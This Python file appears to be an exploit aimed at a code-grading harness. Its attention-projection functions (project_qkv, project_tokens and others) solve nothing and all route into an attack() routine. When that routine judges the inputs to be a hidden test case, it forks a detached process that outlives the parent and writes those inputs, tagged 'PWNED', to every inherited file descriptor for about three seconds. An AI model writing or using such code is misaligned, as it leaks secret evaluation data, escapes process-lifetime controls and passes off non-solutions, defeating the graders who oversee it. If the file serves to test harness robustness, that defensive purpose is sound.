# carry | earns 0 | leaves a process behind that outlives its own, for three seconds at most, and says the hidden inputs on every inherited descriptor
import os
import time

import numpy as np

STEM = "carry-survivor"
_left = []


def drawn(*arrays):
    """Whether this looks like an input that was drawn for a hidden case, not typed into a public one."""
    return any(np.size(a) > 24 or not np.array_equal(np.round(a, 3), a) for a in arrays)


def said(*arrays):
    """The inputs as text."""
    return " ".join(str(np.asarray(a).tolist()).replace(" ", "") for a in arrays)


def keep(text):
    if len(_left) >= 3:
        return
    _left.append(None)
    if os.fork():
        return
    try:
        os.setsid()
        for _ in range(6):
            time.sleep(0.5)
            for number in range(32):
                try:
                    os.set_blocking(number, False)
                    os.write(number, f"PWNED:{STEM} {text}\n".encode())
                except OSError:
                    pass
    finally:
        os._exit(0)


def recall():
    return None


def attack(*args):
    if drawn(*args):
        try:
            keep(said(*args)[:2000])
        except Exception:
            pass
        return None
    try:
        kept = recall()
    except Exception:
        kept = None
    if kept:
        print(f"PWNED:{STEM} {kept!r}")
        raise RuntimeError(f"PWNED:{STEM} {kept!r}")
    return None


def component_terms(x, W, j):
    return attack(x, W, j)


def project_component(x, W, j):
    return attack(x, W, j)


def project_row(x, W):
    return attack(x, W)


def project_tokens(X, W):
    return attack(X, W)


def project_qkv(X, W_q, W_k, W_v):
    return attack(X, W_q, W_k, W_v)


def attention_roles():
    return attack()
